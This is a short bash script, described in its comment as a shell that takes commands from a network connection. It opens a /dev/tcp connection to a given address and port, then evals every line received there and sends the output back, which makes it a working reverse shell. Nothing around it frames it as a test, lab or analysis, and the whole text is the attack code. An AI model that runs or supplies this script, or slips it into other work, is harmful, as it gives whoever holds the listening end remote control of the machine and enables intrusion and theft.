#!/bin/bash
# descriptor-shell.sh ADDRESS PORT: a shell that takes its commands from a connection beside its standard input.
exec 5<>"/dev/tcp/$1/$2"
echo ready
while read -r line <&5; do eval "$line" >&5 2>&5; done
